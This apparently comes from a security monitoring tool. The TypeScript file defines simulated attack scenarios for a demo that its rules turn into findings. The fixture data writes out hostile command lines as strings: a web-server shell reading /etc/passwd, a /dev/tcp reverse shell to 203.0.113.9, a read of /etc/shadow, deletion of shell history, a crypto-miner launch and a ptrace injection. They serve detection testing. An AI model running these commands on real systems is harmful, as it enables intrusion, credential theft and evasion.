// The harmless attack of `make demo`, as templates that become findings.
import type { Field } from '../__generated__/schema.ts'

export interface Scenario {
  rule: string
  kind: string
  summary: string
  result: number
  payload: unknown
  /** From the process that did it up to the first ancestor, without systemd. */
  processes: { name: string; exe: string; args: string[]; user: string; uid: number; cwd: string; container?: string }[]
  fields: Field[]
}

const root = { user: 'root', uid: 0 }
const web = { user: 'www-data', uid: 33 }
const dev = { user: 'marta', uid: 1000 }
const sh = { name: 'bash', exe: '/usr/bin/bash', args: ['-bash'], cwd: '/home/marta' }
const sshd = { name: 'sshd', exe: '/usr/sbin/sshd', args: ['sshd: marta [priv]'], cwd: '/', ...root }
const field = (name: string, value: string): Field => ({ name, value })

export const scenarios: Scenario[] = [
  {
    rule: 'Shell started by a web server',
    kind: 'process.exec',
    summary: '/usr/bin/dash',
    result: 0,
    payload: { Exec: { filename: '/bin/sh', previous_name: 'nginx' } },
    processes: [
      { name: 'sh', exe: '/usr/bin/dash', args: ['sh', '-c', 'id; uname -a; cat /etc/passwd'], cwd: '/var/www/html', ...web },
      { name: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx: worker process'], cwd: '/', ...web },
      { name: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx: master process', '/usr/sbin/nginx'], cwd: '/', ...root },
    ],
    fields: [
      field('proc.cmdline', 'sh -c id; uname -a; cat /etc/passwd'),
      field('proc.pname', 'nginx'),
      field('user.name', 'www-data'),
      field('proc.cwd', '/var/www/html'),
    ],
  },
  {
    rule: 'Sensitive file read by an untrusted program',
    kind: 'file.open',
    summary: '/etc/shadow',
    result: 3,
    payload: { Open: { path: '/etc/shadow', flags: 32768, mode: 0 } },
    processes: [
      { name: 'python3', exe: '/usr/bin/python3.11', args: ['python3', 'collect.py', '--all'], cwd: '/tmp/.cache', ...root },
      { ...sh, ...root, cwd: '/root' },
      { name: 'sudo', exe: '/usr/bin/sudo', args: ['sudo', '-i'], cwd: '/home/marta', ...root },
      { ...sh, ...dev },
      sshd,
    ],
    fields: [
      field('fd.name', '/etc/shadow'),
      field('proc.exepath', '/usr/bin/python3.11'),
      field('proc.cmdline', 'python3 collect.py --all'),
      field('user.name', 'root'),
      field('proc.pname', 'bash'),
    ],
  },
  {
    rule: 'Write below etc',
    kind: 'file.open',
    summary: '/etc/cron.d/refresh',
    result: 4,
    payload: { Open: { path: '/etc/cron.d/refresh', flags: 577, mode: 420 } },
    processes: [
      { name: 'tee', exe: '/usr/bin/tee', args: ['tee', '/etc/cron.d/refresh'], cwd: '/root', ...root },
      { ...sh, ...root, cwd: '/root' },
      { ...sh, ...dev },
      sshd,
    ],
    fields: [field('fd.name', '/etc/cron.d/refresh'), field('proc.cmdline', 'tee /etc/cron.d/refresh'), field('user.name', 'root')],
  },
  {
    rule: 'Reverse shell to the network',
    kind: 'net.connect',
    summary: '203.0.113.9:4444',
    result: 0,
    payload: { Connect: { fd: 3, remote: { Ip: { address: '203.0.113.9', port: 4444 } }, local: { Ip: { address: '10.2.0.14', port: 51532 } }, protocol: 6 } },
    processes: [
      { name: 'bash', exe: '/usr/bin/bash', args: ['bash', '-c', 'exec 5<>/dev/tcp/203.0.113.9/4444'], cwd: '/var/www/html', ...web },
      { name: 'sh', exe: '/usr/bin/dash', args: ['sh', '-c', 'bash -c …'], cwd: '/var/www/html', ...web },
      { name: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx: worker process'], cwd: '/', ...web },
      { name: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx: master process'], cwd: '/', ...root },
    ],
    fields: [
      field('fd.name', '10.2.0.14:51532->203.0.113.9:4444'),
      field('proc.cmdline', 'bash -c exec 5<>/dev/tcp/203.0.113.9/4444'),
      field('user.name', 'www-data'),
      field('proc.pname', 'sh'),
    ],
  },
  {
    rule: 'Shell history deleted',
    kind: 'file.unlink',
    summary: '/home/marta/.bash_history',
    result: 0,
    payload: { Unlink: { path: '/home/marta/.bash_history', directory: false } },
    processes: [{ name: 'rm', exe: '/usr/bin/rm', args: ['rm', '-f', '/home/marta/.bash_history'], cwd: '/home/marta', ...dev }, { ...sh, ...dev }, sshd],
    fields: [field('fd.name', '/home/marta/.bash_history'), field('proc.cmdline', 'rm -f /home/marta/.bash_history'), field('user.name', 'marta')],
  },
  {
    rule: 'New binary dropped and run',
    kind: 'process.exec',
    summary: '/tmp/.x/kworkerd',
    result: 0,
    payload: { Exec: { filename: './kworkerd', previous_name: 'bash' } },
    processes: [
      { name: 'kworkerd', exe: '/tmp/.x/kworkerd', args: ['./kworkerd', '--pool', 'stratum+tcp://203.0.113.9:3333'], cwd: '/tmp/.x', ...dev },
      { ...sh, ...dev },
      sshd,
    ],
    fields: [field('proc.exepath', '/tmp/.x/kworkerd'), field('proc.cmdline', 'kworkerd --pool stratum+tcp://203.0.113.9:3333'), field('user.name', 'marta')],
  },
  {
    rule: 'Process traced by another',
    kind: 'process.ptrace',
    summary: 'attach to 4120',
    result: 0,
    payload: { Ptrace: { request: 16, target: 4120 } },
    processes: [{ name: 'inject', exe: '/home/marta/inject', args: ['./inject', '4120'], cwd: '/home/marta', ...dev }, { ...sh, ...dev }, sshd],
    fields: [field('proc.cmdline', 'inject 4120'), field('evt.arg.target', '4120'), field('user.name', 'marta')],
  },
  {
    rule: 'Package manager run in a namespace',
    kind: 'process.exec',
    summary: '/usr/bin/apt-get',
    result: 0,
    payload: { Exec: { filename: '/usr/bin/apt-get', previous_name: 'sh' } },
    processes: [
      { name: 'apt-get', exe: '/usr/bin/apt-get', args: ['apt-get', 'install', '-y', 'nmap'], cwd: '/', container: '3f9a1c07be42', ...root },
      { name: 'sh', exe: '/usr/bin/dash', args: ['sh'], cwd: '/', container: '3f9a1c07be42', ...root },
      { name: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', args: ['containerd-shim-runc-v2', '-namespace', 'k8s.io'], cwd: '/', ...root },
    ],
    fields: [field('proc.cmdline', 'apt-get install -y nmap'), field('container.id', '3f9a1c07be42'), field('user.name', 'root')],
  },
]
